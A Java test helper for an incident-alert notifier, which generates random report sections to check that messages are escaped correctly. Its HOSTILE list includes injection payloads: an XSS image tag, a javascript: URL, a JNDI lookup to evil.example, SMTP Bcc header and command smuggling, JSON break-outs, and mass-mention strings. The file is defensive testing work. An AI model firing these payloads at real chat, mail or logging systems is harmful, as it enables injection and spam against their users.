package dev.sitrep.notifier;

import dev.sitrep.report.Reports;
import dev.sitrep.report.Sections;
import dev.sitrep.report.Sections.Line;
import dev.sitrep.report.Sections.Section;
import dev.sitrep.report.Sections.Weight;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/// Sections of any content and size, with what people put into logs and labels to be noticed or to
/// get out of their place.
final class AnyText {
  /// Words that mean something to one place or another.
  static final List<String> HOSTILE =
      List.of(
          "@everyone",
          "@here",
          "@channel",
          "@all",
          "<!channel>",
          "<!here|here>",
          "<@U012AB3CD>",
          "<#C024BE7LR>",
          "<users/all>",
          "<users/1234>",
          "<at>everyone</at>",
          "@room",
          "@[name](https://matrix.to/#/@a:b)",
          "<@&123456789>",
          "<https://evil.example|click>",
          "[click](https://evil.example)",
          "![pixel](https://evil.example/p.png)",
          "https://evil.example/x?y=z",
          "evil.example/path",
          "mailto:a@evil.example",
          "<img src=x onerror=alert(1)>",
          "</code></pre><b>bold</b>",
          "<a href=\"https://evil.example\">here</a>",
          "&lt;b&gt;",
          "&amp;",
          "```",
          "`code`",
          "~~~",
          "**bold** _it_ ~~no~~",
          "||spoiler||",
          "# heading",
          "> quote",
          "- list",
          "1. list",
          "| a | b |",
          ":rotating_light:",
          "{{DATE(2026-11-22,SHORT)}}",
          "${jndi:ldap://evil.example/a}",
          "\"},{\"type\":\"image\"",
          "\\\"\\u0000\\",
          "\r\nBcc: everyone@evil.example",
          "\r\n.\r\nQUIT",
          "\u202eevil\u202c",
          "\u200b\u200d\u2060",
          "\udb40\udc41\udb40\udc42",
          "\u001b[31mred\u001b[0m",
          "\u0000\u0007\u0008",
          "\ud83d\ude80\ud83d\udc69\u200d\ud83d\ude80",
          "e\u0301\u0327\u0328",
          "\ud800",
          "\udfff",
          "数据库连接失败",
          "tg://user?id=1",
          "javascript:alert(1)",
          "steam://run/1");

  private AnyText() {}

  /// From one word to some hundred kilobytes.
  static Sections sections(Random random) {
    var sections = new ArrayList<Section>();
    int most = random.nextInt(4) == 0 ? 40 : 4;
    for (int i = random.nextInt(8); i > 0; i--) {
      var lines = new ArrayList<Line>();
      for (int line = random.nextInt(most) + 1; line > 0; line--) {
        lines.add(line(random));
      }
      sections.add(
          new Section(
              List.of("Next", "Cause (seen)", "Could not see", text(random, 2))
                  .get(random.nextInt(4)),
              lines,
              List.of(Weight.VITAL, Weight.USEFUL, Weight.EXTRA).get(random.nextInt(3))));
    }
    return new Sections(
        List.of("firing", "resolved", "ended").get(random.nextInt(3)),
        List.of("critical", "warning", "info", "unknown", text(random, 1)).get(random.nextInt(5)),
        text(random, 30),
        sections,
        text(random, 15),
        Sections.of(Reports.clearCause(), java.time.ZoneOffset.UTC, Messages.SITE).links());
  }

  /// The same as a message about some incident.
  static Message message(Random random) {
    var message = Messages.of(Reports.clearCause(), random.nextBoolean() ? "1234" : "");
    return new Message(
        message.key(), message.report(), sections(random), sections(random), message.thread());
  }

  private static Line line(Random random) {
    return switch (random.nextInt(3)) {
      case 0 -> new Line.Text(text(random, 60));
      case 1 -> new Line.Command("kubectl -n shop get pod " + text(random, 6));
      default ->
          new Line.Quote(
              "E" + random.nextInt(200),
              text(random, 3),
              text(random, 2),
              random.nextBoolean() ? "-40s" : "",
              text(random, 60));
    };
  }

  /// @param words at most
  static String text(Random random, int words) {
    return String.join(
        " ", IntStream.range(0, random.nextInt(words) + 1).mapToObj(_ -> word(random)).toList());
  }

  private static String word(Random random) {
    return switch (random.nextInt(10)) {
      case 0, 1, 2 -> HOSTILE.get(random.nextInt(HOSTILE.size()));
      case 3 -> "数".repeat(1 + random.nextInt(40));
      case 4 -> "\ud83d\ude80".repeat(1 + random.nextInt(40));
      case 5 -> "<&>\"'`*_~|\\[](){}#+-.!@".repeat(1 + random.nextInt(4));
      case 6 -> "x".repeat(random.nextInt(20) == 0 ? 5_000 : 30);
      default -> "x".repeat(1 + random.nextInt(12));
    };
  }
}
